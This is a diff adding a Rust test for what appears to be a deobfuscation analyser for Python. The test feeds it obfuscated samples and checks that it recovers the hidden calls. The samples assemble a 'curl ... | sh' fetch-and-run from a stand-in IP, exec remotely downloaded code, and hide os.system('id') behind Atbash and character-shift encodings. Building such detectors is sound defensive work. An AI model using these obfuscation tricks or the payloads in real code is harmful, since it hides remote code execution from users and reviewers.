@@ -334,3 +334,34 @@ fn members_of_object_literals_and_assigned_members_read_back() {
     ))
     .is_empty());
 }
+
+#[test]
+fn default_arguments_substitution_ciphers_and_mapped_lambdas_are_seen_through() {
+    // A helper whose pieces sit in its defaults: a dict of parts and a computed exec.
+    let found = python("PARTS = {\"mod\": \"o\" + \"s\", \"fn\": \"sys\" + \"tem\", \"cmd\": [\"curl -s http://198.51.100.23/i\", \"sh\"]}\ndef _go(table=PARTS):\n    runner = getattr(__import__(table[\"mod\"]), table[\"fn\"])\n    runner(\" | \".join(table[\"cmd\"]))\n_go()\n");
+    assert!(
+        found
+            .iter()
+            .any(|c| c == "os.system(\"curl -s http://198.51.100.23/i | sh\")"),
+        "{found:?}"
+    );
+    let found = python("import builtins\nfrom urllib.request import urlopen\ndef _warm(u=\"https://x.example.invalid/w.py\", apply=getattr(builtins, \"ex\" + \"ec\")):\n    apply(urlopen(u).read())\n_warm()\n");
+    assert!(
+        found
+            .iter()
+            .any(|c| c.contains("exec(urlopen(\"https://x.example.invalid/w.py\")")),
+        "{found:?}"
+    );
+    // Atbash through str.maketrans over the string module's alphabets.
+    let found = python("import string\n_L = string.ascii_lowercase\n_T = str.maketrans(_L, _L[::-1])\nexec('rnklig lh; lh.hbhgvn(\"rw\")'.translate(_T))\n");
+    assert!(
+        found.iter().any(|c| c == "import os; os.system(\"id\")"),
+        "{found:?}"
+    );
+    // map(lambda n: chr(n - 3), codes).
+    let found = python("_V = [104, 123, 104, 102, 43, 42, 108, 103, 42, 44]\nexec(\"\".join(map(lambda n: chr(n - 3), _V)))\n");
+    assert!(found.iter().any(|c| c == "exec('id')"), "{found:?}");
+    // A default that names nothing known, and a translation table never applied, stay unknown.
+    let quiet = python("import importlib\nBACKENDS = {\"json\": \"json\"}\ndef backend(name=\"json\"):\n    return importlib.import_module(BACKENDS[name])\n");
+    assert!(quiet.iter().all(|c| !c.contains("system")), "{quiet:?}");
+}
